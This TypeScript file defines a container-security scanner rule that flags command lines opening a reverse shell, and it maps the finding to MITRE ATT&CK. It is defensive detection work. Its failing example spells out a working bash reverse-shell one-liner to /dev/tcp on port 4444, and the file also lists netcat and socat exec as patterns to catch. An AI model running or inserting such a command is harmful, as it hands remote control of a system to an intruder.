import { defineContainerRule } from '../define-rule.ts';
import { exampleDeployment } from '../example.ts';
import { attack, owasp, threatMatrix } from '../frameworks.ts';
import { commandLine, opensReverseShell } from '../shell.ts';

/** MITRE ATT&CK T1059.004 and the threat matrix MS-TA9007: a shell that calls out to its operator. */
export const commandReverseShell = defineContainerRule({
  id: 'command-reverse-shell',
  title: 'Command lines open no reverse shell',
  why: 'The command connects a shell to an address outside. That is how an intruder keeps a foothold; hardly any program needs it.',
  severity: 'critical',
  scope: 'object',
  reason: 'reverse shell',
  detail: 'the command line of container {container} opens a shell to the network',
  remediation:
    'Find out who wrote it. Isolate the workload, keep its evidence, and treat the cluster as entered.',
  frameworks: [...owasp('workload'), ...attack('T1609', 'T1610'), ...threatMatrix('MS-TA9007', 'MS-TA9012')],
  layer: 'code',
  phase: 'runtime',
  function: 'detect',
  references: ['https://attack.mitre.org/techniques/T1059/004/'],
  alike: 'none known',
  noise: 'Only /dev/tcp with an address and port, netcat with a program to run, and socat with exec.',
  example: () => ({
    pass: exampleDeployment({ container: 'command: [sh, -c, "nc -z db 5432 && exec /app/web"]' }),
    fail: exampleDeployment({
      container: 'command: [bash, -c, "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"]',
    }),
  }),
  check({ container }) {
    const line = commandLine(container);
    if (line === undefined || !opensReverseShell(line)) return undefined;
    return { at: container.command === undefined ? '/args' : '/command' };
  },
});
